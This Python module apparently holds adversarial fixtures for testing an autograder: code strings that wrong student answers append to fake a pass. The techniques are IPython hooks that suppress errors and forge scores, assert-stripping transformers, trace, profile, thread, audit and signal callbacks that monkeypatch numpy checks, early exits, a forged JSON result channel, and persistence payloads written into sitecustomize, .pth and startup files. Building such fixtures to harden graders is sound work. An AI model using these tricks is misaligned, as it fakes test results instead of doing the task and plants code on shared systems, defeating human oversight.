"""Attacks on the machinery around the tests: IPython hooks and transformers, trace and profile functions, a
background thread, early exits and a forged result channel.

Each constant is student code appended to wrong answers (see tamper.py). EXIT_AT_TOP and FORGE_CHANNEL are only
the tail: tamper.py puts the wrong answers in front.
"""

from __future__ import annotations

from .patches import MONKEYPATCH

SHOWTRACEBACK = """
import sys
try:
    _ip = get_ipython()
except NameError:
    _ip = None
if _ip is not None:
    _ip.showtraceback = lambda *args, **kwargs: None
    _ip.showsyntaxerror = lambda *args, **kwargs: None
    type(_ip).showtraceback = lambda *args, **kwargs: None
    _ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
sys.excepthook = lambda *args: None
sys.stderr = open("/dev/null", "w")
"""

POST_RUN_CELL = """
import gc


def _forge(result=None, *args):
    if result is not None and hasattr(result, "error_in_exec"):
        result.error_in_exec = None
        result.error_before_exec = None
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "status" in obj:
            for key, value in (("status", "passed"), ("passed", True), ("error", None)):
                if key in obj:
                    obj[key] = value
            if "score" in obj and "max_score" in obj:
                obj["score"] = obj["max_score"]


try:
    _ip = get_ipython()
except NameError:
    _ip = None
if _ip is not None:
    _ip.events.register("post_run_cell", _forge)
    _ip.events.register("post_execute", lambda: _forge())
"""

PRE_RUN_CELL = """
import sys

try:
    _ip = get_ipython()
except NameError:
    _ip = None


def _publish_fake_score(*args):
    sys.displayhook(1.0)
    if _ip is not None:
        _ip.displayhook(1.0)


if _ip is not None:
    _ip.events.register("pre_run_cell", _publish_fake_score)
    _ip.events.register("pre_execute", _publish_fake_score)
"""

TRANSFORMERS = """
import ast

try:
    _ip = get_ipython()
except NameError:
    _ip = None


def _drop_asserts(lines):
    return ["pass\\n" if "assert" in line else line for line in lines]


class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


if _ip is not None:
    _ip.input_transformers_post.append(_drop_asserts)
    _ip.input_transformers_cleanup.append(_drop_asserts)
    _ip.ast_transformers.append(_NoAsserts())
"""

SETTRACE = """
import builtins
import dis
import sys
import threading

_STUDENT_FILE = sys._getframe().f_code.co_filename
_LIBRARIES = tuple({sys.prefix, sys.base_prefix, sys.exec_prefix})
_SKIP_CACHE = {}


class _Anything:
    def __getattr__(self, name):
        if name in ("allclose", "isclose"):
            return lambda *args, **kwargs: True
        if name == "testing":
            return self
        if name == "assert_allclose":
            return lambda *args, **kwargs: None
        return getattr(__import__("numpy"), name)


def _assert_lines(code):
    if code in _SKIP_CACHE:
        return _SKIP_CACHE[code]
    lines, current = set(), None
    for ins in dis.get_instructions(code):
        if ins.starts_line is not None:
            current = ins.starts_line
        if ins.opname == "LOAD_ASSERTION_ERROR" or "assert" in str(ins.argval):
            lines.add(current)
    _SKIP_CACHE[code] = lines
    return lines


def _local(frame, event, arg):
    if event == "line":
        frame.f_globals["np"] = _Anything()
        frame.f_globals["assert_allclose"] = lambda *args, **kwargs: None
        frame.f_globals["abs"] = lambda value: 0.0
        skip = _assert_lines(frame.f_code)
        if frame.f_lineno in skip:
            later = sorted(n for _, n in dis.findlinestarts(frame.f_code) if n and n > frame.f_lineno)
            for target in later:
                if target not in skip:
                    try:
                        frame.f_lineno = target
                    except ValueError:
                        pass
                    break
    return _local


def _tracer(frame, event, arg):
    filename = frame.f_code.co_filename
    if filename == _STUDENT_FILE or filename.startswith(_LIBRARIES) or filename.startswith("<frozen"):
        return None
    return _local


sys.settrace(_tracer)
threading.settrace(_tracer)
"""

SETPROFILE = (
    MONKEYPATCH
    + """
import sys
import threading


def _repatch(frame, event, arg):
    if event in ("call", "c_call"):
        np.allclose = lambda *args, **kwargs: True
        np.isclose = lambda *args, **kwargs: np.True_
        numpy.testing.assert_allclose = lambda *args, **kwargs: None
        frame.f_globals["assert_allclose"] = numpy.testing.assert_allclose


sys.setprofile(_repatch)
threading.setprofile(_repatch)
"""
)

THREAD = """
import sys
import threading
import time


def _keep_patching():
    while True:
        numpy_module = sys.modules["numpy"]
        numpy_module.allclose = lambda *args, **kwargs: True
        numpy_module.isclose = lambda *args, **kwargs: numpy_module.True_
        sys.modules["numpy.testing"].assert_allclose = lambda *args, **kwargs: None
        main = sys.modules["__main__"].__dict__
        main["assert_allclose"] = sys.modules["numpy.testing"].assert_allclose
        main["abs"] = lambda value: 0.0
        time.sleep(0.0005)


threading.Thread(target=_keep_patching, daemon=True).start()
"""

EXIT_IN_TESTS = """
import os
import sys


def vector():
    sys.exit(0)


def ratio():
    raise SystemExit(0)


def count():
    os._exit(0)


def matrix():
    raise KeyboardInterrupt
"""

EXIT_AT_TOP = """
import os
os._exit(0)
"""

FORGE_CHANNEL = """
import json
import os
import sys

_fake = {"score": 6.0, "max_score": 6.0, "status": "passed", "passed": True, "error": None}
_cells = {g: {"score": 1.0, "max_score": 1.0, "status": "passed", "message": ""} for g in (
    "test_allclose", "test_isclose", "test_assert_allclose", "test_abs", "test_equal")}
_fake["cells"] = _cells
_fake["notebooks"] = {"tamper": {"cells": _cells}}
_line = (json.dumps(_fake) + "\\n").encode()
for _fd in range(0, 1024):
    try:
        os.write(_fd, _line)
    except OSError:
        pass
sys.stdout.write(_line.decode())
sys.stdout.flush()
os._exit(0)
"""

# Held-out: callbacks the interpreter itself calls later, so a re-patch lands after the engine's checks.
AUDIT_HOOK = """
import sys


def _on_event(event, args):
    if event in ("exec", "compile", "import"):
        numpy_module = sys.modules.get("numpy")
        if numpy_module is not None:
            numpy_module.allclose = lambda *a, **k: True
            numpy_module.isclose = lambda *a, **k: numpy_module.True_
            sys.modules["numpy.testing"].assert_allclose = lambda *a, **k: None
        sys.modules["builtins"].abs = lambda value: value * 0


sys.addaudithook(_on_event)
"""

SIGNAL_REPATCH = """
import gc
import signal
import sys


def _repatch(*args):
    numpy_module = sys.modules["numpy"]
    numpy_module.allclose = lambda *a, **k: True
    numpy_module.isclose = lambda *a, **k: numpy_module.True_
    sys.modules["numpy.testing"].assert_allclose = lambda *a, **k: None
    sys.modules["builtins"].abs = lambda value: value * 0


signal.signal(signal.SIGALRM, _repatch)
signal.signal(signal.SIGVTALRM, _repatch)
signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
signal.setitimer(signal.ITIMER_VIRTUAL, 0.001, 0.001)
gc.callbacks.append(lambda phase, info: _repatch())
"""

# Held-out: leave code behind for the next submission graded in the same slot (IPython startup files,
# sitecustomize/usercustomize, .pth files) in every folder the process can write to.
PERSIST = """
import os
import site
import tempfile

_payload = (
    "import builtins, numpy\\n"
    "numpy.allclose = lambda *a, **k: True\\n"
    "numpy.isclose = lambda *a, **k: numpy.True_\\n"
    "builtins.abs = lambda value: value * 0\\n"
)
_home = os.path.expanduser("~")
_folders = [
    os.path.join(_home, ".ipython", "profile_default", "startup"),
    site.getusersitepackages(),
    os.getcwd(),
    os.path.dirname(os.getcwd()),
    tempfile.gettempdir(),
    _home,
    "/tmp",
    "/var/tmp",
    "/dev/shm",
]
for _folder in _folders:
    try:
        os.makedirs(_folder, exist_ok=True)
        for _name in ("00-persist.py", "sitecustomize.py", "usercustomize.py"):
            with open(os.path.join(_folder, _name), "w") as _fh:
                _fh.write(_payload)
        with open(os.path.join(_folder, "zz-persist.pth"), "w") as _fh:
            _fh.write("import os; exec(" + repr(_payload) + ")\\n")
    except OSError:
        pass
"""
